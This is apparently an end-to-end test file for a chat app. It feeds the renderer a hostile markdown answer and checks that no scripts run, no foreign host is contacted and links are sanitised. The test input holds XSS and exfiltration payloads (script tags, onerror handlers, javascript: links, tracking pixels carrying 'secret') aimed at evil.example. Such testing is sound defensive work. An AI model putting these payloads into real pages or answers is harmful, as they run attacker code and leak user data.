// A model's text is hostile input: it runs nothing, loads nothing and leads nowhere unseen.
import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import type { Account } from "../../app/account.js";
import { webFixture } from "./fixture.js";

const EVIL = "http://evil.example";
const DOCUMENT = `
# Hello <img src=${EVIL}/1.png onerror="window.hacked=1">

![pixel](${EVIL}/2.png?q=secret) and ![ref][beacon]

[beacon]: ${EVIL}/3.png

<img src="${EVIL}/4.png"> <link rel=stylesheet href="${EVIL}/5.css"> <style>body{background:url(${EVIL}/6.png)}</style>

<script>window.hacked = 2</script>

<iframe src="${EVIL}/7"></iframe>

[run](javascript:window.hacked=3) [data](data:text/html,x) [good](https://example.org/page)
[leak](${EVIL}/${"a".repeat(100)})

$$\\href{javascript:window.hacked=4}{x} \\includegraphics{${EVIL}/8.png}$$

\`\`\`html
<script>window.hacked = 5</script>
\`\`\`
`;

describe("a hostile answer", () => {
  const web = webFixture();
  let account: Account;

  before(async () => {
    account = await web.app().aUser();
  });

  it("runs no script and asks no other host, as an answer, as a title and as a question", async () => {
    const chat = await web.chat("/", { account });
    await chat.begin(`[[sim: echo]] ${DOCUMENT}`);
    const answer = await chat.ended();
    await answer.getByText("Image not loaded from evil.example").first().waitFor();
    assert.equal(await answer.locator("img, iframe, script, style, link").count(), 0);
    assert.equal(await answer.getByText("window.hacked = 2").count(), 1, "raw HTML is text");
    await chat.page.waitForLoadState("networkidle");
    assert.equal(await chat.page.evaluate("window.hacked"), undefined);
    assert.deepEqual(chat.web.foreign, []);
  });

  it("gives links no referrer and no opener, and shows a long address before it is followed", async () => {
    const chat = await web.chat("/", { account });
    await chat.begin(`[[sim: echo]] ${DOCUMENT}`);
    const answer = await chat.ended();
    const good = answer.getByRole("link", { name: "good" });
    assert.equal(await good.getAttribute("rel"), "noopener noreferrer nofollow ugc");
    assert.equal(await good.getAttribute("referrerpolicy"), "no-referrer");
    assert.equal(await answer.getByRole("link", { name: "run" }).count(), 0);
    assert.equal(await answer.getByRole("link", { name: "data" }).count(), 0);
    await answer.getByRole("link", { name: "leak" }).click();
    const question = chat.page.getByRole("dialog", { name: "Open this link?" });
    await question.getByText("a".repeat(100)).waitFor();
    await chat.page.keyboard.press("Escape");
    assert.equal(chat.web.context.pages().length, 1, "nothing was opened");
  });
});
